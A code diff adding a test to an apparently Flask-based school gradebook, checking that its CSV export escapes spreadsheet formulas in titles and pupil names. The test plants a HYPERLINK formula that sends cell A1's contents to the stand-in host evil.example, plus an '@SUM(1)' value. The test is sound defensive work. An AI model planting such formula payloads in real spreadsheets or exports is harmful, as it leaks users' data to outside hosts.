@@ -150,3 +150,20 @@ def test_the_gradebook_is_chosen_from_a_list(app: Flask, hub: HubPeople) -> None
     assert chosen.status_code == 200 and "Сәрсенбаев Әлихан" in chosen.get_data(as_text=True)
     for bad in ("x-y", f"{hub.cohort.id}-", "999-999", f"{hub.cohort.id}-{hub.subject.id}9"):
         assert advisor.client.get(f"/gradebook?pair={bad}").status_code == 404, bad
+
+
+def test_the_gradebook_csv_runs_no_formula(app: Flask, hub: HubPeople) -> None:
+    """Titles, names and schools come from people: a spreadsheet must show them, not run them."""
+    import csv
+    import io
+
+    work = work_with_grades(hub, 0)
+    work.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    hub.pupil.full_name = "@SUM(1)"
+    db.session.commit()
+    response = signed_in(app, "adv").client.get("/gradebook.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert table[0][2] == "'" + work.title + " (5)", table[0]
+    row = next(r for r in table if r[0].endswith("SUM(1)"))
+    assert row[0] == "'@SUM(1)" and row[2] == "4.00"  # the grade is still a number
